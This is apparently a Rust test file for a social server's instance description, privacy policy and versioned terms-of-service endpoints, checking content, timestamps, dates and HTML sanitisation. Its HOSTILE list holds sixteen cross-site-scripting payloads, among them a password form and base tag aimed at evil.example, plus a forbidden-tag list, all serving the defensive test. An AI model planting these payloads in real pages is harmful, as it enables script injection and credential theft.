//! `/api/v1/instance/extended_description`, `…/privacy_policy` and `…/terms_of_service`.

use std::time::Duration;

use serde_json::{Value, json};
use siskin_entities::TextName::{ExtendedDescription, PrivacyPolicy};

use crate::support::{Response, TestApp};

const DESCRIPTION: &str = "/api/v1/instance/extended_description";
const POLICY: &str = "/api/v1/instance/privacy_policy";
const TERMS: &str = "/api/v1/instance/terms_of_service";

/// Markdown with active content, in all forms that a careless renderer would leave in the HTML.
const HOSTILE: [&str; 16] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<h2 onclick=alert(1) style=\"position:fixed\">a</h2>",
    "<a href=\"java&#10;script:alert(1)\">a</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>",
    "[a](javascript:alert(1))",
    "[a](  JaVaScRiPt:alert(1) \"b\")",
    "![a](x\" onerror=\"alert(1))",
    "[a]: javascript:alert(1)\n\n[a]",
    "<form action=https://evil.example><input name=password></form>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<base href=https://evil.example><link rel=stylesheet href=https://evil.example>",
    "`</code><script>alert(1)</script>`\n\n```\"><script>\n</pre><script>alert(1)</script>\n```",
];

/// Checks that HTML contains only the elements of documents, with harmless attributes.
fn assert_harmless(html: &str) {
    for tag in html.split('<').skip(1) {
        let tag = tag.split_once('>').unwrap().0;
        let name = tag.trim_start_matches('/').split(' ').next().unwrap();
        let known = [
            "p",
            "br",
            "span",
            "a",
            "del",
            "pre",
            "code",
            "em",
            "strong",
            "b",
            "i",
            "u",
            "ul",
            "ol",
            "li",
            "blockquote",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
        ];
        assert!(known.contains(&name), "<{tag}> in {html}");
        for attribute in tag.split('"').step_by(2).filter(|it| it.contains('=')) {
            let attribute = attribute.rsplit(' ').next().unwrap();
            let is_known = ["href=", "rel=", "class=", "start=", "reversed=", "value="];
            assert!(is_known.contains(&attribute), "{attribute} in {html}");
        }
        if let Some((_, href)) = tag.split_once("href=\"") {
            assert!(href.starts_with("https://") || href.starts_with("http://"), "{href}");
        }
    }
}

async fn content(app: &TestApp, path: &str) -> String {
    app.anonymous().get(path).await.ok()["content"].as_str().unwrap().to_owned()
}

fn dates(response: &Response) -> (Value, Value, Value) {
    let terms = response.ok();
    let of = |key: &str| terms[key].clone();
    (of("effective_date"), of("effective"), of("succeeded_by"))
}

api_tests! {
    async fn without_an_extended_description_it_is_empty(app: &TestApp) {
        let bare = app.anonymous().get(DESCRIPTION).await.ok();
        assert_eq!(bare, json!({ "updated_at": null, "content": "" }));
        app.write_text(ExtendedDescription, "# Us\n\nWe *like*\nbirds.").await;
        let written = app.anonymous().get(DESCRIPTION).await.ok();
        assert_eq!(written["content"], "<h2>Us</h2><p>We <em>like</em> birds.</p>");
        let changed_at = written["updated_at"].clone();
        assert!(changed_at.is_string());
        // The same text again is no change.
        app.advance(Duration::from_secs(5));
        app.write_text(ExtendedDescription, "# Us\n\nWe *like*\nbirds.\n").await;
        assert_eq!(app.anonymous().get(DESCRIPTION).await.ok()["updated_at"], changed_at);
        app.write_text(ExtendedDescription, "More").await;
        assert_ne!(app.anonymous().get(DESCRIPTION).await.ok()["updated_at"], changed_at);
        app.write_text(ExtendedDescription, " ").await;
        assert_eq!(app.anonymous().get(DESCRIPTION).await.ok(), bare);
    }

    async fn the_standard_privacy_policy_names_the_instance_and_its_contact(app: &TestApp) {
        let standard = app.anonymous().get(POLICY).await.ok();
        assert_eq!(standard["updated_at"], "2026-11-30T00:00:00.000Z");
        let text = standard["content"].as_str().unwrap();
        assert!(text.contains("Siskin") && text.contains("<h2>Contact</h2>"), "{text}");
        assert!(text.contains(&format!("href=\"{}/about\"", app.base_url())), "{text}");
        app.user("ann").await;
        for (key, value) in [
            ("site_title", "*Aviary* <b>"),
            ("contact_email", "staff@mail.test"),
            ("contact_account", "ann"),
        ] {
            app.app().change_setting(key.to_owned(), value.to_owned()).await.unwrap();
        }
        let text = content(app, POLICY).await;
        assert!(text.contains("*Aviary* &lt;b&gt; (") && text.contains("staff@mail.test"), "{text}");
        assert!(text.contains(&format!("href=\"{}/@ann\"", app.base_url())), "{text}");
        assert_harmless(&text);

        app.write_text(PrivacyPolicy, "We store nothing.").await;
        let own = app.anonymous().get(POLICY).await.ok();
        assert_eq!(own["content"], "<p>We store nothing.</p>");
        assert_ne!(own["updated_at"], standard["updated_at"]);
        app.write_text(PrivacyPolicy, "").await;
        assert_eq!(content(app, POLICY).await, text);
    }

    async fn without_terms_of_service_there_are_none(app: &TestApp) {
        for path in [TERMS.to_owned(), format!("{TERMS}/2026-12-24")] {
            let response = app.anonymous().get(&path).await.expect(404);
            assert_eq!(response["error"], "Record not found");
        }
        let urls = app.anonymous().get("/api/v2/instance").await.ok();
        assert_eq!(urls["configuration"]["urls"]["terms_of_service"], Value::Null);
    }

    async fn terms_of_service_have_versions_with_dates(app: &TestApp) {
        let anonymous = app.anonymous();
        let later = app.write_terms("Be *very* kind", 9).await;
        // Before any version is in effect, the first one is announced.
        assert_eq!(dates(&anonymous.get(TERMS).await), (json!(later), json!(false), Value::Null));
        let first = app.write_terms("Be kind", 0).await;
        app.advance(Duration::from_hours(7 * 24));
        let last = app.write_terms("Be kindest", 9).await;
        let current = anonymous.get(TERMS).await;
        assert_eq!(dates(&current), (json!(first), json!(true), json!(later)));
        assert_eq!(current.ok()["content"], "<p>Be kind</p>");
        let of = async |date: &str| dates(&anonymous.get(&format!("{TERMS}/{date}")).await);
        assert_eq!(of(&first).await, (json!(first), json!(true), json!(later)));
        assert_eq!(of(&later).await, (json!(later), json!(false), json!(last)));
        assert_eq!(of(&last).await, (json!(last), json!(false), Value::Null));
        let urls = anonymous.get("/api/v2/instance").await.ok();
        let address = format!("{}/terms-of-service", app.base_url());
        assert_eq!(urls["configuration"]["urls"]["terms_of_service"], address);

        app.advance(Duration::from_hours(48));
        assert_eq!(dates(&anonymous.get(TERMS).await), (json!(later), json!(true), json!(last)));
        assert_eq!(of(&first).await, (json!(first), json!(false), json!(later)));
    }

    async fn other_dates_have_no_version(app: &TestApp) {
        let date = app.write_terms("Be kind", 0).await;
        for wrong in [
            "2001-01-01", "2026-13-01", "2026-02-30", "today", "1", "%00",
            &date[2..], &format!("{date}T00:00:00Z"), &format!("{date}%20"), &date.replace('-', ""),
        ] {
            let response = app.anonymous().get(&format!("{TERMS}/{wrong}")).await;
            assert_eq!(response.expect(404)["error"], "Record not found", "{wrong}");
        }
    }

    async fn texts_contain_no_active_content(app: &TestApp) {
        let all = HOSTILE.join("\n\n");
        for text in HOSTILE.into_iter().chain([all.as_str()]) {
            app.write_text(ExtendedDescription, text).await;
            assert_harmless(&content(app, DESCRIPTION).await);
        }
        app.write_text(PrivacyPolicy, &all).await;
        assert_harmless(&content(app, POLICY).await);
        app.write_terms(&all, 0).await;
        assert_harmless(&content(app, TERMS).await);
        for path in ["/about", "/privacy-policy", "/terms-of-service"] {
            let page = app.anonymous().get(path).await.text();
            for forbidden in ["<script", "<img src=x", "<svg", "<iframe", "<base", "<form"] {
                assert!(!page.contains(forbidden), "{path}: {forbidden} in {page}");
            }
        }
    }
}
